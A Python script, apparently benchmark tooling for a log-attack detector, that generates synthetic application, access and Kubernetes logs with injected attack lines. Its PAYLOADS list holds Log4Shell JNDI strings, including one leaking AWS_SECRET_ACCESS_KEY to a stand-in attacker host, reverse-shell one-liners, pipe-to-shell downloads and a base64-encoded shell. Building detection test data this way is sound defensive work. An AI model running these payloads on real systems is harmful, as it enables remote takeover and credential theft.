#!/usr/bin/env python3
"""Generate the log mixes benches/logmix.sh times (and benches/gen-window-rates.py learns from).

Usage: gen-mixes.py MIX OUT SIZE_MB [--benign] [--seed N]

MIX is one of
  reference  issue 19's recipe: every non-empty line of ../shared/corpus/benign/**/*.log in
             sorted file order, cycled; after every 5,000th line one access-log line
             `10.9.8.7 - - [27/Nov/2026:14:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "<payload>"`
             with a JNDI variant or a shell one-liner as payload
  java-json  a Java (Spring Boot / Tomcat / Hibernate) app's json-file driver log: Go-escaped
             `log` strings (`\\u003c`...), stack traces, logback JSON lines; an attack every
             5,000 records
  access     nginx/Apache combined access log: many paths, query strings (some URL-encoded),
             referers, user agents, response times; an attack every 5,000 lines
  cri        a CRI (Kubernetes) container log: klog lines, zap JSON lines, ingress-nginx
             access lines, PostgreSQL lines, some long messages split into P/F parts; an
             attack every 5,000 lines
--benign leaves the attack lines out (the training set of gen-window-rates.py); --seed picks
another deterministic stream (the benches use the default seed, training uses others).
Stops once SIZE_MB MiB are written. Deterministic for a given MIX, SIZE_MB, flags and seed.
"""
import glob
import json
import os
import random
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
SHARED = os.path.join(ROOT, "..", "shared")

PAYLOADS = [
    "${jndi:ldap://10.9.8.7:1389/Exploit}",
    "${jndi:rmi://cb.attacker.example:1099/o}",
    "${${lower:j}ndi:${lower:l}dap://cb.attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://cb.attacker.example/x}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//cb.attacker.example/y}",
    "${jndi:dns://cb.attacker.example/${env:AWS_SECRET_ACCESS_KEY}}",
    "%24%7Bjndi%3Aldap%3A%2F%2F10.9.8.7%3A1389%2FBasic%2FCommand%2FBase64%2FaWQ%3D%7D",
    "bash -i >& /dev/tcp/10.9.8.7/4444 0>&1",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.9.8.7 4444 >/tmp/f",
    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.9.8.7\",4444));os.dup2(s.fileno(),0)'",
    "curl -s http://10.9.8.7/x.sh | bash",
    "wget -qO- http://10.9.8.7/m | sh",
    "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC45LjguNy80NDQ0IDA+JjE=}|{base64,-d}|{bash,-i}",
]

WORDS = ["order", "user", "session", "cart", "payment", "shipment", "invoice", "token", "report", "sync",
         "catalog", "price", "stock", "review", "coupon", "account", "profile", "search", "export", "audit"]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.43 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.4.0", "Go-http-client/1.1", "kube-probe/1.28", "python-requests/2.31.0", "okhttp/4.12.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)", "Prometheus/2.48.0", "ELB-HealthChecker/2.0",
]


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.i = 0

    def ip(self):
        r = self.r
        return "%d.%d.%d.%d" % (r.choice([10, 172, 192, 203, 198, 81, 94, 185]), r.randint(0, 255),
                                r.randint(0, 255), r.randint(1, 254))

    def hms(self):
        i = self.i // 7
        return "%02d:%02d:%02d" % ((i // 3600) % 24, (i // 60) % 60, i % 60)

    def iso(self):
        return "2026-11-27T%s.%09dZ" % (self.hms(), (self.i * 7919) % 10**9)

    def apache_time(self):
        return "[27/Nov/2026:%s +0000]" % self.hms()

    def path(self):
        r = self.r
        w = r.choice(WORDS)
        k = r.random()
        if k < 0.3:
            p = "/api/v%d/%ss/%d" % (r.randint(1, 3), w, r.randint(1, 10**6))
        elif k < 0.5:
            p = r.choice(["/", "/index.html", "/favicon.ico", "/robots.txt", "/health", "/metrics", "/login",
                          "/static/js/app.%x.js" % r.getrandbits(32), "/static/css/main.%x.css" % r.getrandbits(32),
                          "/img/products/%d.webp" % r.randint(1, 99999)])
        elif k < 0.8:
            p = "/%s/%s" % (w, r.choice(WORDS))
        else:
            p = "/search"
        q = r.random()
        if q < 0.15:
            p += "?q=%s%%20%s&page=%d&sort=%s" % (r.choice(WORDS), r.choice(WORDS), r.randint(1, 50),
                                                  r.choice(["asc", "desc", "price"]))
        elif q < 0.22:
            p += "?redirect=%%2F%s%%2F%s&utm_source=%s" % (r.choice(WORDS), r.choice(WORDS), r.choice(["mail", "ads"]))
        elif q < 0.35:
            p += "?id=%d&lang=%s" % (r.randint(1, 99999), r.choice(["en", "de", "fr", "es", "ja"]))
        return p

    def access(self, attack=None):
        r = self.r
        ua = attack if attack else r.choice(UAS)
        ref = r.choice(['"-"', '"-"', '"https://shop.example.com/%s"' % r.choice(WORDS),
                        '"https://www.google.com/"'])
        return '%s - %s %s "%s %s HTTP/%s" %d %d %s "%s" %.3f' % (
            self.ip(), r.choice(["-", "-", "-", "alice", "svc-ci"]), self.apache_time(),
            r.choice(["GET", "GET", "GET", "POST", "PUT", "HEAD", "DELETE"]), self.path(),
            r.choice(["1.1", "1.1", "2.0"]), r.choice([200, 200, 200, 201, 204, 301, 302, 304, 400, 401, 404, 500]),
            r.randint(0, 200000), ref, ua, r.random() * 2)

    def java_message(self):
        """One message of a Spring Boot app (lines of a stack trace are separate messages)."""
        r = self.r
        k = r.random()
        ts = "2026-11-27 %s.%03d" % (self.hms(), self.i % 1000)
        cls = r.choice(["c.e.shop.web.%sController" % r.choice(WORDS).capitalize(),
                        "c.e.shop.service.%sService" % r.choice(WORDS).capitalize(),
                        "o.h.engine.jdbc.spi.SqlExceptionHelper", "o.s.web.servlet.DispatcherServlet",
                        "com.zaxxer.hikari.pool.HikariPool", "o.a.c.c.C.[Tomcat].[localhost].[/]"])
        if k < 0.5:
            return ["%s  %s 1 --- [nio-8080-exec-%d] %-40s : %s %d %s for customer %d in %d ms" % (
                ts, r.choice(["INFO", "INFO", "DEBUG", "WARN"]), r.randint(1, 200), cls,
                r.choice(WORDS).capitalize(), r.randint(1, 10**7), r.choice(["created", "updated", "loaded", "cached"]),
                r.randint(1, 10**5), r.randint(1, 2000))]
        if k < 0.65:
            return ["Hibernate: select %s1_0.id,%s1_0.created_at,%s1_0.status from %ss %s1_0 where %s1_0.customer_id=? "
                    "order by %s1_0.created_at desc limit ?" % ((r.choice("abcdefo"),) * 3 + (r.choice(WORDS),)
                                                                 + (r.choice("abcdefo"),) * 3)]
        if k < 0.85:
            return [json.dumps({"@timestamp": "2026-11-27T%s.%03dZ" % (self.hms(), self.i % 1000), "@version": "1",
                                "message": "Request %s /%s/%d completed with %d" % (
                                    r.choice(["GET", "POST"]), r.choice(WORDS), r.randint(1, 10**5),
                                    r.choice([200, 200, 404])),
                                "logger_name": cls, "thread_name": "http-nio-8080-exec-%d" % r.randint(1, 200),
                                "level": r.choice(["INFO", "DEBUG"]), "level_value": 20000,
                                "traceId": "%032x" % r.getrandbits(128), "spanId": "%016x" % r.getrandbits(64)})]
        exc = r.choice(["java.lang.IllegalStateException: Failed to load %s" % r.choice(WORDS),
                        "org.springframework.dao.DataIntegrityViolationException: could not execute statement",
                        "java.net.SocketTimeoutException: Read timed out"])
        lines = ["%s ERROR 1 --- [nio-8080-exec-%d] %-40s : Servlet.service() threw exception" % (
            ts, r.randint(1, 200), cls), exc]
        for _ in range(r.randint(4, 14)):
            lines.append("\tat %s.%s(%s.java:%d)" % (
                r.choice(["org.springframework.web.servlet.FrameworkServlet", "org.apache.catalina.core.StandardWrapperValve",
                          "com.example.shop.service.%sService" % r.choice(WORDS).capitalize(),
                          "java.base/java.lang.Thread", "org.hibernate.engine.jdbc.spi.SqlExceptionHelper"]),
                r.choice(["<init>", "invoke", "handle", "doFilter", "run", "service", "lambda$0"]),
                r.choice(["Thread", "StandardWrapperValve", "Service", "FrameworkServlet"]), r.randint(10, 2000)))
        lines.append("\t... %d common frames omitted" % r.randint(10, 90))
        return lines

    def cri_message(self):
        r = self.r
        k = r.random()
        if k < 0.35:
            return "I1127 %s.%06d       1 %s.go:%d] %s" % (
                self.hms(), self.i % 10**6, r.choice(["reflector", "controller", "leaderelection", "shared_informer"]),
                r.randint(50, 900), r.choice([
                    "Listing and watching *v1.Pod from k8s.io/client-go/informers/factory.go:150",
                    "successfully acquired lease kube-system/kube-controller-manager",
                    "Caches are synced for endpoint_slice", "Starting workers count=5"]))
        if k < 0.6:
            return json.dumps({"level": r.choice(["info", "info", "debug", "error"]), "ts": 1764252000 + self.i / 1000,
                               "logger": r.choice(["controller.deployment", "webhook", "reconciler"]),
                               "msg": r.choice(["Reconciling", "Reconcile done", "Starting EventSource"]),
                               "namespace": r.choice(["default", "shop", "monitoring"]),
                               "name": "%s-%x" % (r.choice(WORDS), r.getrandbits(24)),
                               "reconcileID": "%08x-%04x-%04x" % (r.getrandbits(32), r.getrandbits(16), r.getrandbits(16))})
        if k < 0.85:
            return '%s - - %s "%s %s HTTP/1.1" %d %d "-" "%s" %d %.3f [%s-%s-80] [] 10.244.%d.%d:8080 %d %.3f %d %032x' % (
                self.ip(), self.apache_time(), r.choice(["GET", "POST"]), self.path(), r.choice([200, 200, 304, 404]),
                r.randint(0, 90000), r.choice(UAS), r.randint(200, 900), r.random(), r.choice(["shop", "default"]),
                r.choice(WORDS), r.randint(0, 9), r.randint(2, 250), r.randint(0, 90000), r.random(),
                r.choice([200, 304]), r.getrandbits(128))
        return "2026-11-27 %s.%03d UTC [%d] %s" % (
            self.hms(), self.i % 1000, r.randint(100, 9999), r.choice([
                "LOG:  checkpoint starting: time", "LOG:  checkpoint complete: wrote 42 buffers (0.3%)",
                "LOG:  duration: %d.%03d ms  statement: SELECT id FROM %ss WHERE id = %d" % (
                    r.randint(0, 900), r.randint(0, 999), r.choice(WORDS), r.randint(1, 10**6)),
                "ERROR:  duplicate key value violates unique constraint \"%ss_pkey\"" % r.choice(WORDS)]))


def reference_lines(g):
    files = sorted(glob.glob(os.path.join(SHARED, "corpus", "benign", "**", "*.log"), recursive=True))
    if not files:
        sys.exit("no ../shared/corpus/benign/**/*.log")
    lines = []
    for f in files:
        with open(f, "rb") as fh:
            lines.extend(l.rstrip(b"\n") for l in fh if l.strip())
    n = 0
    while True:
        for l in lines:
            yield l + b"\n"
            n += 1
            if n % 5000 == 0 and g.attacks:
                p = PAYLOADS[(n // 5000) % len(PAYLOADS)]
                yield ('10.9.8.7 - - [27/Nov/2026:14:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "%s"\n' % p).encode()


def java_json_lines(g):
    while True:
        g.i += 1
        msgs = g.java_message()
        if g.attacks and g.i % 5000 == 0:
            p = PAYLOADS[(g.i // 5000) % len(PAYLOADS)]
            msgs = ["2026-11-27 %s.000  WARN 1 --- [nio-8080-exec-9] c.e.shop.web.SearchController : "
                    "bad search term <%s> from X-Api-Version header" % (g.hms(), p)]
        for m in msgs:
            rec = {"log": m + "\n", "stream": "stdout", "time": g.iso()}
            # Go's encoding/json escapes <, > and & as \u003c, \u003e, \u0026.
            s = json.dumps(rec, separators=(",", ":"), ensure_ascii=False)
            yield (s.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026") + "\n").encode()


def access_lines(g):
    while True:
        g.i += 1
        attack = PAYLOADS[(g.i // 5000) % len(PAYLOADS)] if g.attacks and g.i % 5000 == 0 else None
        yield (g.access(attack) + "\n").encode()


def cri_lines(g):
    while True:
        g.i += 1
        msg = g.cri_message()
        if g.attacks and g.i % 5000 == 0:
            msg = g.access(PAYLOADS[(g.i // 5000) % len(PAYLOADS)])
        t = g.iso()
        if len(msg) > 300 and g.r.random() < 0.3:
            # A long message split by the runtime: partial parts then the final one.
            cut = len(msg) // 2
            yield ("%s stdout P %s\n" % (t, msg[:cut])).encode()
            msg = msg[cut:]
        yield ("%s %s F %s\n" % (t, g.r.choice(["stdout", "stdout", "stderr"]), msg)).encode()


MIXES = {"reference": reference_lines, "java-json": java_json_lines, "access": access_lines, "cri": cri_lines}


def main():
    args = [a for a in sys.argv[1:]]
    benign = "--benign" in args
    seed = 20261207
    if "--seed" in args:
        k = args.index("--seed")
        seed = int(args[k + 1])
        del args[k:k + 2]
    args = [a for a in args if a != "--benign"]
    if len(args) != 3 or args[0] not in MIXES:
        sys.exit(__doc__)
    mix, out, size_mb = args[0], args[1], int(args[2])
    g = Gen(seed)
    g.attacks = not benign
    target = size_mb << 20
    written = lines = 0
    with open(out, "wb") as f:
        buf = []
        for l in MIXES[mix](g):
            buf.append(l)
            written += len(l)
            lines += 1
            if len(buf) >= 10000 or written >= target:
                f.write(b"".join(buf))
                buf = []
            if written >= target:
                break
    print("%s: %s, %d bytes, %d lines" % (out, mix, written, lines), file=sys.stderr)


if __name__ == "__main__":
    main()
